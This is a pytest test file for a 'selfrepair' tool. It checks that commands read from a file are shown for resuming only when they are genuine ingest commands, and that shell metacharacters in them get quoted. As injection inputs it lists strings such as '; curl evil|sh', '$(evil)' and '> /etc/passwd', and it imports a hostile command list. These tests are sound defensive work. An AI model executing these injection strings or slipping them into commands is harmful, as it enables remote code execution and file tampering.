"""A command from a file is shown only where a shell takes it as the `selfrepair ingest` that it says it is."""

import shlex
from pathlib import Path

import pytest

from selfrepair.warehouse.parts.command import command_to_resume, warning_of_code
from support.hostile import COMMANDS

INGEST = "selfrepair ingest --model 'a b' --given L0H1,L0H2"


@pytest.mark.parametrize("recorded", [*COMMANDS, "", None, 5, "selfrepair", "selfrepair load", f"x {INGEST}"])
def test_another_text_is_not_shown(recorded: object) -> None:
    assert command_to_resume(recorded, Path("w.duckdb")) is None


def test_what_a_shell_would_act_on_is_quoted() -> None:
    assert command_to_resume(INGEST, Path("a b.duckdb")) == f"{INGEST} --db 'a b.duckdb'"
    for more in ("; curl evil|sh", "$(evil)", "`evil`", "&& evil", "> /etc/passwd", "*", "~", "# x", "!!", "{a,b}"):
        told = command_to_resume(f"{INGEST} {more}", Path("w.duckdb"))
        assert told is not None
        assert told == shlex.join([*shlex.split(INGEST), *more.split(), "--db", "w.duckdb"])


def test_a_command_that_runs_a_model_s_code_says_so() -> None:
    assert "comes with the model (--trust-remote-code)" in warning_of_code(f"{INGEST} --trust-remote-code")
    assert warning_of_code(INGEST) == ""
